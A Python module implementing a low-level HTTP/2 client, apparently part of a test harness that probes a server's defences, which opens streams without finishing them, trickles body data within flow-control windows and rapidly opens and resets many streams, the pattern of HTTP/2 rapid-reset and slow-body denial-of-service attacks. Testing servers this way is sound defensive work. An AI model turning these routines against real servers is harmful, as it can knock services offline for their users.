"""An HTTP/2 client for attacks that no HTTP library can be told to do.

Input: a connected socket. Output: `Http2`, which opens streams, leaves them unfinished, resets them.
Invariants: it never sends more than the server's flow-control windows allow, so that the attack follows the
protocol.
"""

import socket
import time

import h2.connection
import h2.events
import h2.exceptions
import h2.settings


def grpc_prefix(length: int) -> bytes:
    """The five bytes before a gRPC message: not compressed, and its length."""
    return b"\0" + length.to_bytes(4, "big")


class Http2:
    """One connection."""

    def __init__(self, connection: socket.socket):
        self._socket = connection
        self._h2 = h2.connection.H2Connection()
        self._h2.initiate_connection()
        # Whether the client opens the flow-control windows again as it receives answers.
        self.acknowledges = True
        self._ended: set[int] = set()
        self._trailers: dict[int, dict[str, str]] = {}
        self._over = False
        self._flush()
        self._wait(lambda: self._h2.remote_settings.max_concurrent_streams < 1 << 31, 10)

    def __enter__(self) -> "Http2":
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def limit_of_streams(self) -> int:
        """The number of streams that the server allows at the same time."""
        return self._h2.remote_settings.max_concurrent_streams

    def post(self, path: str, media_type: str = "application/json", *headers: tuple[str, str]) -> int:
        """Begins a request without ending it."""
        stream = self._h2.get_next_available_stream_id()
        own = [(":method", "POST"), (":path", path), (":scheme", "http"), (":authority", "a"), ("content-type", media_type)]
        grpc = [("te", "trailers")] if "grpc" in media_type else []
        self._h2.send_headers(stream, own + grpc + list(headers))
        self._flush()
        return stream

    def send(self, stream: int, data: bytes, end: bool = False) -> None:
        """Sends a part of a body."""
        self._h2.send_data(stream, data, end_stream=end)
        self._flush()

    def send_evenly(self, streams: list[int], size: int, limit: float) -> int:
        """Sends up to `size` bytes on each stream, as far as the windows allow within `limit` seconds.
        Returns the number of bytes sent."""
        left, sent, end = dict.fromkeys(streams, size), 0, time.monotonic() + limit
        while left and time.monotonic() < end and not self._over:
            went = 0
            for stream in [one for one in left if one not in self._ended]:
                try:
                    window = self._h2.local_flow_control_window(stream)
                    part = min(window, left[stream], self._h2.max_outbound_frame_size)
                    if part > 0:
                        self._h2.send_data(stream, b" " * part)
                except h2.exceptions.ProtocolError:
                    self._ended.add(stream)
                    continue
                left[stream] -= part
                went += part
            left = {one: rest for one, rest in left.items() if rest > 0 and one not in self._ended}
            self._flush()
            self._receive(0 if went else 0.1)
            sent += went
        return sent

    def send_whole(self, stream: int, body: bytes, limit: float = 30) -> None:
        """Sends a whole body and ends the stream."""
        end = time.monotonic() + limit
        while body and time.monotonic() < end and not self._over:
            part = min(self._h2.local_flow_control_window(stream), self._h2.max_outbound_frame_size)
            if part > 0:
                self.send(stream, body[:part], end=part >= len(body))
                body = body[part:]
            self._receive(0 if part > 0 else 0.1)

    def reset_at_once(self, path: str, count: int) -> None:
        """Opens `count` streams, and resets each one before it is answered."""
        for _ in range(count):
            try:
                stream = self.post(path)
                self._h2.reset_stream(stream)
                self._flush()
            except (OSError, h2.exceptions.ProtocolError):
                break
        self._receive(0)

    def status(self, stream: int, limit: float) -> tuple[str, str]:
        """The `grpc-status` that ends a call, and the flag that its message names."""
        self._wait(lambda: "grpc-status" in self._trailers.get(stream, {}), limit)
        found = self._trailers.get(stream, {})
        words = found.get("grpc-message", "").replace("%20", " ").replace("`", " ").replace("%60", " ").split()
        return found.get("grpc-status", ""), next((word for word in words if word.startswith("--")), "")

    def has_ended(self, stream: int) -> bool:
        """Whether the server ended a stream."""
        self._receive(0)
        return stream in self._ended

    def is_over(self, limit: float) -> bool:
        """Whether the server ends the connection within `limit` seconds."""
        self._wait(lambda: self._over, limit)
        return self._over

    def _wait(self, condition, limit: float) -> None:
        end = time.monotonic() + limit
        while not condition() and time.monotonic() < end and not self._over:
            self._receive(0.1)

    def _flush(self) -> None:
        if data := self._h2.data_to_send():
            try:
                self._socket.settimeout(30)
                self._socket.sendall(data)
            except OSError:
                self._over = True

    def _receive(self, patience: float) -> None:
        self._socket.settimeout(max(patience, 0.001))
        try:
            data = self._socket.recv(1 << 16)
        except TimeoutError:
            return
        except OSError:
            self._over = True
            return
        if not data:
            self._over = True
            return
        for event in self._h2.receive_data(data):
            match event:
                case h2.events.StreamEnded() | h2.events.StreamReset():
                    self._ended.add(event.stream_id)
                case h2.events.ResponseReceived() | h2.events.TrailersReceived():
                    texts = {_text(name): _text(value) for name, value in event.headers}
                    self._trailers.setdefault(event.stream_id, {}).update(texts)
                case h2.events.DataReceived() if self.acknowledges:
                    self._h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                case h2.events.ConnectionTerminated():
                    self._over = True
        self._flush()


def _text(value: str | bytes) -> str:
    return value.decode() if isinstance(value, bytes) else value
